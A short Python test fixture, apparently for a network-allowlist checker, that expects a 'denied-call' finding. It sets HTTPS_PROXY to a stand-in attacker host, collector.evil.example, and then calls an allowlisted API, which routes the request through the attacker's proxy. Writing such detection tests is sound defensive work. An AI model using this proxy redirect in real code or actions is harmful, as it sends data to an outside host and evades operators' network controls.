# validated with the network allowlist: api.example.com
# family: network allowlist walked around by pointing urllib at a proxy through the environment
# expected finding: denied-call
import os
import urllib.request

os.environ["HTTPS_PROXY"] = "http://collector.evil.example:8080"
urllib.request.urlopen("https://api.example.com/v1/me")
